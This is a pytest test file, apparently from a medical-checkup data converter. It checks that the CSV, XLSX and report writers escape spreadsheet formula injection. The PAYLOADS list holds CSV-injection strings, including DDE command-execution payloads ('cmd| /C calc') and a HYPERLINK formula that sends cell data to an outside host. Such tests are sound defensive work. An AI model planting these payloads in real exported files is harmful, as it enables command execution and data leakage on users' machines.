"""Texts that a spreadsheet would run, in every field of a person, through every way out that a spreadsheet opens."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace

import pytest
from lxml import etree

from akashi.checkup import FINDING_KINDS, Finding, ItemResult, NeutralRecord, Status, convert
from akashi.checkup.findings.export import findings_csv, findings_xlsx
from akashi.checkup.report.plain import Tables
from akashi.checkup.writers.fkac import write_fkac522
from akashi.checkup.writers.jma import write_jma
from akashi.checkup.writers.standard_records import write_standard
from tests.checkup.conftest import ON, TINY_HEADERS
from tests.checkup.fuzz.samples import DEFINITION, FIELDS, RECORD, ROW, TINY
from tests.checkup.readers.shipped import ITEMS

PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＠SUM(1)",
    '=HYPERLINK("http://x.invalid/?"&A1,"x")', "'=1+1", "''=1+1", "\t=1+1", "\r=1+1", "\n=1+1", '"=1+1', '=1+1"', 'x","=1+1', "x\r\n=1+1,2", "+A1", "-A1",
    "+-A1", "x\t=1+1", "=", "@", "=\u202e1+1", "\u200b=1+1",
)  # fmt: skip
# A number with a sign, and graded results (written as words of signs), are results and no formulas.
_PLAIN = re.compile(r"[+-][0-9.,]*|[+-]{1,4}")


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take ``cell`` for a formula."""
    return cell[:1] in tuple("=+-@＝＠\t\r\n") and bool(cell) and _PLAIN.fullmatch(cell) is None


def cells(data: bytes) -> list[str]:
    """Every cell, as a spreadsheet parts them."""
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def poisoned(payload: str) -> NeutralRecord:
    """``payload`` in every text of a record."""
    results = tuple(
        ItemResult(
            code, 1, status, payload, payload, payload, coded=payload, qualifier="", low=payload, high=payload, flag=payload, judgement=payload,
            judgement_standard=payload, method=payload, text=payload, performer=payload, group=payload, name=payload, system=payload, answers=payload,
        )
        for code, status in (("9N001000000000001", Status.UNMATCHED), ("1A020000000191111", Status.VALUE), ("9N056160400000049", Status.VALUE))
    )  # fmt: skip
    fields = dict.fromkeys(FIELDS, payload)
    return replace(RECORD, fields=fields, originals=fields, items=results)


def _standard(payload: str) -> bytes:
    out = io.BytesIO()
    write_standard([poisoned(payload)], DEFINITION, ITEMS, out)
    return out.getvalue()


def _converted(payload: str) -> bytes:
    quoted = io.StringIO()
    csv.writer(quoted).writerows([TINY_HEADERS, [payload] * len(ROW)])
    out = io.BytesIO()
    convert(io.BytesIO(quoted.getvalue().encode()), TINY, DEFINITION, out, on=ON, items=ITEMS)
    return out.getvalue()


def _findings(payload: str) -> list[Finding]:
    return [Finding("cell.term", 1, 2, 3, payload, payload, payload)]


def _tables(payload: str) -> bytes:
    tables = Tables(ITEMS)
    tables.add(1, [poisoned(payload)])
    return tables.fields() + b"\r\n" + tables.results().removeprefix(b"\xef\xbb\xbf")


@pytest.mark.parametrize(
    "write", [_standard, _converted, _tables, lambda payload: findings_csv(_findings(payload), FINDING_KINDS)]
)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_that_a_spreadsheet_opens_is_a_formula(payload: str, write: Callable[[str], bytes]) -> None:
    """An apostrophe stands before it, whatever quotes and line ends the text brings along."""
    assert [cell for cell in cells(write(payload)) if runs(cell)] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_of_findings_holds_texts_only(payload: str) -> None:
    """No formula element; what is no text is a number."""
    with zipfile.ZipFile(io.BytesIO(findings_xlsx(_findings(payload), FINDING_KINDS))) as book:
        sheet = etree.fromstring(book.read("xl/worksheets/sheet1.xml"))

    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert list(sheet.iter(f"{space}f")) == []
    assert {cell.get("t") for cell in sheet.iter(f"{space}c")} <= {"inlineStr", None, "n"}


@pytest.mark.parametrize("payload", ["=1+1", "@SUM(1)", "-2+3+cmd|' /C calc'!A0"])
@pytest.mark.parametrize("write", [write_jma, write_fkac522])
def test_formats_for_machines_warn(payload: str, write: Callable[..., object]) -> None:
    """They are written as they are, because a machine reads them; the clerk is told."""
    found: list[Finding] = []

    write(
        [replace(RECORD, fields=FIELDS | {"person.kana": payload, "person.name": payload})],
        ITEMS,
        io.BytesIO(),
        finding_sink=found.append,
    )

    assert "write.formula" in {one.code for one in found}
